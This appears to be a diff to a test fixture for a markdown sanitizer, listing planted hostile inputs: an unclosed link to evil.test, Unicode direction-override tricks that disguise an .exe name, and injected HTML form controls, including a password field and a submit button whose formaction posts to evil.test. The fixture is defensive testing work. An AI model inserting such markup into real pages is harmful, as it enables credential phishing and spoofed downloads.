@@ -44,4 +44,12 @@ PLANTED = [
     ('<a href="https://evil.test/">An unclosed link\n\nA paragraph the link swallows.', "an unclosed <a>"),
     ("[\u202egnp.exe](index.md)", "U+202E in a link's text"),
     ("## Pay \u2067here\u2069 now", "U+2067 in an <h2>"),
+    # Form fields (issue 26): only the templates' field syntax makes them (kb/markdown/forms.py);
+    # the same controls written as HTML, a submit button that posts elsewhere, autofocus.
+    ('<input type="text" name="password">', "<input> written as HTML"),
+    ('<INPUT TYPE="password" data-kb-field="intake-need">', "<input> written as HTML"),
+    ('<textarea data-kb-field="intake-need"></textarea>', "<textarea> written as HTML"),
+    ('<select data-kb-field="website.it"><option value="A">A</option></select>', "<select> written as HTML"),
+    ('<button type="submit" formaction="https://evil.test/">Send</button>', "<button formaction>"),
+    ('<button type="button" autofocus>Go</button>', "<button autofocus>"),
 ]
